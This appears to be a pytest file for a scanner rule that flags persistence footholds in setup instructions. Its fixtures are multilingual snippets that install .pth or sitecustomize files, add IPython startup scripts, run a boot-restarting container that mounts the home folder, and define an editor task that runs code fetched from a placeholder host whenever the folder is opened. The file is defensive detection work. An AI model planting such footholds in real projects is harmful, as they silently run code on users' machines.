"""Footholds that need no shell start-up file: a `.pth` or `sitecustomize.py` put into Python's site folder (run by
every interpreter), IPython's start-up folder, a container restarted at every boot with the host's home or Docker
socket mounted, an editor task run at every opening of the folder that reaches a foreign host. Their everyday
siblings (a database container restarted with its own volume, a watcher task at folder open) stay quiet."""
from __future__ import annotations

import pytest

from tests.test_scan_actions import act, no_project  # noqa: F401 (no_project: the autouse fixture, shared)


def act009(text: str) -> set[str]:
    return {s for d, s in act(text) if d == "ACT009"}


SITE = [
    "## Setup\n\nOnce per machine: `cp tools/hook/loader.pth \"$(python3 -m site --user-site)/\"`.\n",
    "## Einrichtung\n\nEinmal pro Rechner: `cp werkzeug/sitecustomize.py \"$(python -m site --user-site)/\"`.\n",
]

IPYTHON = [
    "## Notebooks\n\nRun `cp tools/00-env.py ~/.ipython/profile_default/startup/` so every kernel loads it.\n",
    "## Cuadernos\n\nEjecuta `cp tools/00-env.py ~/.ipython/profile_default/startup/` para que cada kernel lo cargue.\n",
]

CONTAINER = [
    "## Sync\n\nStart it once: `docker run -d --restart always -v \"$HOME\":/h acme/sync:latest`.\n",
    "## Synchro\n\nLance-le une fois : `docker run -d --restart=unless-stopped -v $HOME:/h acme/sync:latest`.\n",
]

TASK = """## Editor

Keep this task in `.vscode/tasks.json`:

```json
{
  "label": "refresh",
  "type": "shell",
  "command": "node tools/pull.mjs --from https://cfg.tooling-sync.example/team.mjs",
  "runOptions": { "runOn": "folderOpen" }
}
```
"""


@pytest.mark.parametrize("text", SITE + IPYTHON, ids=["en-pth", "de-sitecustomize", "en-ipython", "es-ipython"])
def test_a_file_python_runs_at_every_start_is_a_foothold(text: str) -> None:
    assert act009(text) & {"warning", "error"}, act(text)


@pytest.mark.parametrize("text", CONTAINER, ids=["en", "fr"])
def test_a_container_restarted_at_boot_with_the_home_folder_is_an_error(text: str) -> None:
    assert "error" in act009(text), act(text)


@pytest.mark.parametrize("lang", ["en", "it"])
def test_a_folder_open_task_that_reaches_a_foreign_host_is_an_error(lang: str) -> None:
    text = TASK if lang == "en" else TASK.replace("Keep this task in", "Mantieni questo task in")
    assert "error" in act009(text), act(text)


QUIET = [
    "## Database\n\n`docker run -d --restart always -v pgdata:/var/lib/postgresql/data -p 5432:5432 postgres:16`\n",
    "## Editor\n\n```json\n{\"label\": \"watch\", \"command\": \"npm run watch\", \"runOptions\": {\"runOn\": "
    "\"folderOpen\"}}\n```\n",
    "## Install\n\n`pip install -e .` puts the package's own `.pth` into site-packages.\n",
]


@pytest.mark.parametrize("text", QUIET, ids=["db-container", "watch-task", "editable-install"])
def test_everyday_siblings_stay_quiet(text: str) -> None:
    assert not act009(text), act(text)
